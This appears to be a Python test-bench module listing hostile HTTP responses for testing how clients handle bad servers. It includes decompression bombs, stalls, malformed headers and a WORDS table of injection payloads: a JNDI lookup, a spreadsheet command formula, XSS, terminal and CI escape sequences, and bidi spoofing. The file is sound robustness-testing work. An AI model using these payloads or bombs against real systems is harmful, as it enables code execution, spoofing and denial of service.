"""The table of mutations: what a service, a proxy or an attacker may answer instead of the truth.

`useless` ones leave nothing true to read: a check that is met on them alone has seen nothing (false met). Under the
others a check may be met, where it looks at something else or the answer still says the same.
"""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import brotli  # type: ignore[import-untyped]
import zstandard

from bench.hostile.answer import Answer, Mutate, Sent

STALL = 3600.0
"""Seconds of silence that nobody waits for."""
WORDS = {
    "surrogate": "\ud83c",
    "nul": "a\x00b",
    "escapes": "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "commands": "\n::error title=x::y\n::stop-commands::t\n::add-mask::a\n##[group]z",
    "bidi": "user\u202egpj.exe \u2066x\u2069 \u200b\ufeff",
    "markup": "[/word] [bold]x[/bold] [link=http://h]l[/link]",
    "html": "<script>window.hit=1</script><img src=x onerror=window.hit=1>",
    "cdata": "]]><!-- &#x0; <![CDATA[",
    "formula": "=cmd|' /C calc'!A0",
    "markdown": "![x](http://h/p) [a](javascript:window.hit=1) `x` | y\n# head",
    "long": "x" * 2_000_000,
    "format": "%s%n {0.__class__} ${jndi:ldap://h/a} {{7*7}}",
}
"""Words that mean something to a terminal, a CI log, a browser, a spreadsheet or a template."""


@dataclass(frozen=True)
class Mutation:
    """One row of the table."""

    name: str
    mutate: Mutate
    useless: bool = True


def _as(body: bytes, *, status: int = 200, kind: str = "application/json", more: bytes = b"") -> Mutate:
    return lambda answer: answer.whole(body, status=status, kind=kind, more=more)


def _raw(*parts: Sent) -> Mutate:
    return lambda answer: iter(parts)


def _body(change: Callable[[bytes], bytes]) -> Mutate:
    return lambda answer: answer.whole(change(answer.body))


def _json(change: Callable[[Any], Any]) -> Mutate:
    """The same answer with every value of its JSON changed; one that is no JSON becomes a short text."""

    def mutate(answer: Answer) -> Iterator[Sent]:
        try:
            value = change(json.loads(answer.body))
        except ValueError:
            return answer.whole(b"not what you asked for")
        return answer.whole(json.dumps(value).encode("utf-8", "surrogatepass"))

    return mutate


def _each(leaf: Callable[[Any], Any]) -> Mutate:
    def walk(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: walk(inner) for key, inner in value.items()}
        return [walk(inner) for inner in value] if isinstance(value, list) else leaf(value)

    return _json(walk)


def _strings(change: Callable[[str], str]) -> Mutate:
    return _each(lambda value: change(value) if isinstance(value, str) else value)


def _lists(change: Callable[[list[Any]], list[Any]]) -> Mutate:
    def walk(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: walk(inner) for key, inner in value.items()}
        return change([walk(inner) for inner in value]) if isinstance(value, list) else value

    return _json(walk)


def _keys(change: Callable[[dict[str, Any]], dict[str, Any]]) -> Mutate:
    def walk(value: Any) -> Any:
        if isinstance(value, dict):
            return change({key: walk(inner) for key, inner in value.items()})
        return [walk(inner) for inner in value] if isinstance(value, list) else value

    return _json(walk)


def _drip(answer: Answer) -> Iterator[Sent]:
    yield answer.head(len(answer.body) + 10_000)
    for byte in answer.body + b" " * 10_000:
        yield bytes([byte])
        yield 1.0


def _endless(answer: Answer) -> Iterator[Sent]:
    yield answer.head(None)
    for _ in range(600):
        yield b"x" * 1024 * 1024


def _cut(answer: Answer) -> Iterator[Sent]:
    whole = answer.head(len(answer.body)) + answer.body
    yield whole[: answer.random.randrange(len(whole))]


def _claims(encoding: bytes, body: Callable[[bytes], bytes]) -> Mutate:
    return lambda answer: answer.whole(body(answer.body), more=b"Content-Encoding: " + encoding + b"\r\n")


def _head_drips(answer: Answer) -> Iterator[Sent]:
    yield b"HTTP/1.1 200 OK\r\n"
    for number in range(10_000):
        yield b"X-%d: a\r\n" % number
        yield 1.0


def _informs(answer: Answer) -> Iterator[Sent]:
    for _ in range(10_000):
        yield b"HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n"
        yield 1.0


def _short(answer: Answer) -> Iterator[Sent]:
    yield answer.head(len(answer.body) + 100)
    yield answer.body


def _slow(answer: Answer) -> Iterator[Sent]:
    yield 0.7
    yield from answer.whole(answer.body)


def _late(answer: Answer) -> Iterator[Sent]:
    yield answer.head(len(answer.body) or 10)
    yield STALL


def _twice(answer: Answer) -> Iterator[Sent]:
    for _ in range(2):
        yield answer.head(len(answer.body))
        yield answer.body


def _stale(answer: Answer) -> Iterator[Sent]:
    return answer.whole(answer.earlier or b"{}")


def _chunked(sizes: bytes) -> Mutate:
    def mutate(answer: Answer) -> Iterator[Sent]:
        yield answer.head(None, more=b"Transfer-Encoding: chunked\r\n")
        yield sizes

    return mutate


_PROXY = b"<!doctype html><title>Sign in</title><h1>Please sign in to the network</h1>"
_ZEROS = bytes(300 * 1024 * 1024)
_BOMB = gzip.compress(_ZEROS, 9)
_BROTLI_BOMB = brotli.compress(_ZEROS, quality=1)
_ZSTD_BOMB = zstandard.compress(_ZEROS, 1)
del _ZEROS
_OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"

MUTATIONS: tuple[Mutation, ...] = (
    # Another status
    Mutation("500", _as(b"<h1>Internal Server Error</h1>", status=500, kind="text/html")),
    Mutation("500-json", _as(b'{"message":"boom"}', status=500)),
    Mutation("502-empty", _as(b"", status=502)),
    Mutation("503-soon", _as(b"{}", status=503, more=b"Retry-After: 0\r\n")),
    Mutation("429-bare", _as(b"{}", status=429)),
    Mutation("429-forever", _as(b"{}", status=429, more=b"Retry-After: 999999999\r\n")),
    Mutation("429-nonsense", _as(b"{}", status=429, more=b"Retry-After: soon\r\n")),
    Mutation("204", _as(b"", status=204)),
    Mutation("206", lambda answer: answer.whole(answer.body[:3], status=206)),
    Mutation("304", _as(b"", status=304)),
    Mutation("418", _as(b"[]", status=418)),
    Mutation("999", _as(b"{}", status=999)),
    Mutation("301-loop", _as(b"", status=301, more=b"Location: ./\r\n")),
    Mutation("302-elsewhere", _as(b"", status=302, more=b"Location: http://192.0.2.1/x\r\n")),
    Mutation("307-no-location", _as(b"", status=307)),
    # No HTTP, or too much of it
    Mutation("closed", _raw()),
    Mutation("garbage", _raw(b"\x16\x03\x01\x02\x00\x01\x00garbage\r\n\r\n")),
    Mutation("http-0.9", _raw(b"hello\n")),
    Mutation("bad-status-line", _raw(b"HTTP/1.1 OK 200\r\n\r\n")),
    Mutation("1xx-flood", _raw(*[b"HTTP/1.1 102 Processing\r\n\r\n" * 1000] * 50, STALL)),
    Mutation("header-1MB", _raw(_OK + b"X: " + b"a" * 1_048_576 + b"\r\nContent-Length: 2\r\n\r\n{}")),
    Mutation("headers-10000", _raw(_OK + b"".join(b"X-%d: a\r\n" % n for n in range(10_000)) + b"\r\n{}")),
    Mutation("header-nul", _raw(_OK + b"X: a\x00b\r\nContent-Length: 2\r\n\r\n{}")),
    Mutation("header-folded", _raw(_OK + b"X: a\r\n b\r\nContent-Length: 2\r\n\r\n{}")),
    Mutation("header-no-colon", _raw(_OK + b"nonsense\r\nContent-Length: 2\r\n\r\n{}")),
    Mutation("length-negative", _raw(_OK + b"Content-Length: -1\r\n\r\n{}")),
    Mutation("length-twice", _raw(_OK + b"Content-Length: 2\r\nContent-Length: 9\r\n\r\n{}")),
    Mutation("length-words", _raw(_OK + b"Content-Length: two\r\n\r\n{}")),
    Mutation("length-and-chunks", _raw(_OK + b"Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n{}")),
    Mutation("chunk-negative", _chunked(b"-5\r\n{}\r\n0\r\n\r\n")),
    Mutation("chunk-huge", _chunked(b"ffffffffffffffff\r\n{}")),
    Mutation("chunk-unended", _chunked(b"2\r\n{}\r\n")),
    Mutation("twice", _twice, useless=False),
    Mutation("cut", _cut),
    Mutation("short", _short),
    # Time
    Mutation("silence", _raw(STALL)),
    Mutation("silence-after-head", _late),
    Mutation("drip", _drip),
    Mutation("slow", _slow, useless=False),
    # Size
    Mutation("endless", _endless),
    Mutation("20MB", _as(b'"' + b"x" * 20_000_000 + b'"')),
    Mutation("deep", _as(b"[" * 100_000 + b"]" * 100_000)),
    Mutation("deep-objects", _as(b'{"a":' * 50_000 + b"1" + b"}" * 50_000)),
    Mutation("digits", _as(b"9" * 100_000)),
    # Encodings
    Mutation("gzip-bomb", _claims(b"gzip", lambda body: _BOMB)),
    Mutation("gzip-plain", _claims(b"gzip", lambda body: body or b"x")),
    Mutation("gzip-cut", _claims(b"gzip", lambda body: gzip.compress(body or b"{}")[:-9])),
    Mutation("gzip-honest", _claims(b"gzip", gzip.compress), useless=False),
    Mutation("deflate-broken", _claims(b"deflate", lambda body: zlib.compress(body)[::-1])),
    Mutation("brotli-plain", _claims(b"br", lambda body: body or b"x")),
    Mutation("zstd-plain", _claims(b"zstd", lambda body: body or b"x")),
    Mutation("charset-unknown", _as(b'{"a":"\xff\xfe"}', kind="application/json; charset=klingon")),
    Mutation("utf-16", _body(lambda body: body.decode("utf-8", "replace").encode("utf-16")), useless=False),
    Mutation("bom", _body(lambda body: b"\xef\xbb\xbf" + body), useless=False),
    Mutation("bytes", _as(bytes(range(256)) * 4)),
    # A body that is something else
    Mutation("html", _as(_PROXY, kind="text/html")),
    Mutation("mock-ok", _as(b'{"ok":true,"success":true,"status":"ok","data":[]}')),
    Mutation("empty", _as(b"")),
    Mutation("null", _as(b"null")),
    Mutation("list", _as(b"[]")),
    Mutation("object", _as(b"{}")),
    Mutation("text", _as(b'"text"')),
    Mutation("zero", _as(b"0")),
    Mutation("nan", _as(b'{"a":NaN,"b":1e999}')),
    Mutation("lists-of-null", _as(b"[null,null,[[]],{}]")),
    Mutation("truncated", _body(lambda body: body[: len(body) // 2]), useless=False),
    Mutation("stale", _stale, useless=False),
    # The same shape with other values
    Mutation("values-null", _each(lambda value: None), useless=False),
    Mutation("values-numbers", _each(lambda value: 7), useless=False),
    Mutation("values-text", _each(lambda value: "7"), useless=False),
    Mutation("values-objects", _each(lambda value: {"a": value}), useless=False),
    Mutation(
        "numbers-huge",
        _each(lambda value: 10**400 if type(value) is int else value),
        useless=False,
    ),
    Mutation("flipped", _each(lambda value: not value if isinstance(value, bool) else value), useless=False),
    Mutation("lists-empty", _lists(lambda items: []), useless=False),
    Mutation("lists-doubled", _lists(lambda items: items + items), useless=False),
    Mutation("lists-short", _lists(lambda items: items[:-1]), useless=False),
    Mutation("keys-gone", _keys(lambda fields: {}), useless=False),
    Mutation("keys-upper", _keys(lambda fields: {k.upper(): v for k, v in fields.items()}), useless=False),
    Mutation("keys-reversed", _keys(lambda fields: dict(reversed(fields.items()))), useless=False),
    Mutation("prototype", _keys(lambda fields: {"__proto__": {"a": 1}, **fields}), useless=False),
    # Words
    *(
        Mutation(f"words-{name}", _strings(lambda text, w=word: text + w), useless=False)  # type: ignore[misc]
        for name, word in WORDS.items()
    ),
    *(
        Mutation(
            f"refused-{name}",
            _as(json.dumps({"message": word, "error": word, "code": word}).encode(), status=400),
            useless=False,
        )
        for name, word in WORDS.items()
        if name != "long"
    ),
    # Content codings that nobody asked for
    Mutation("brotli-honest", _claims(b"br", lambda body: brotli.compress(body)), useless=False),
    Mutation("zstd-honest", _claims(b"zstd", zstandard.compress), useless=False),
    Mutation("brotli-bomb", _claims(b"br", lambda body: _BROTLI_BOMB)),
    Mutation("zstd-bomb", _claims(b"zstd", lambda body: _ZSTD_BOMB)),
    Mutation("gzip-twice", _claims(b"gzip, gzip", lambda body: gzip.compress(_BOMB))),
    Mutation("coding-unknown", _claims(b"snappy", lambda body: body or b"x")),
    # More of time
    Mutation("head-drips", _head_drips),
    Mutation("1xx-drips", _informs),
)
